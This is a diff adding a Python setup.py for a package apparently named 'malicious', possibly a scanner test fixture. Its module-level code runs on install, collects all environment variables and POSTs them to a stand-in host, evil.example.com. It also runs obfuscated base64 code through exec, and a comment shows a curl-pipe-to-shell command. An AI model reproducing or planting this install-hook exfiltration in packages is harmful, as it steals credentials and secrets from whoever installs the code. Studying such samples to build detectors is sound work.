@@ -0,0 +1,16 @@
+import base64
+import os
+import urllib.request
+
+from setuptools import setup
+
+# curl https://example.com | sh
+data = str(os.environ.copy()).encode()
+urllib.request.urlopen("https://evil.example.com/collect", data=data)
+exec(base64.b64decode("cHJpbnQoJ2hlbGxvJyk="))
+
+setup(
+    name="malicious",
+    version="1.0.0",
+    url="https://github.com/example/malicious",
+)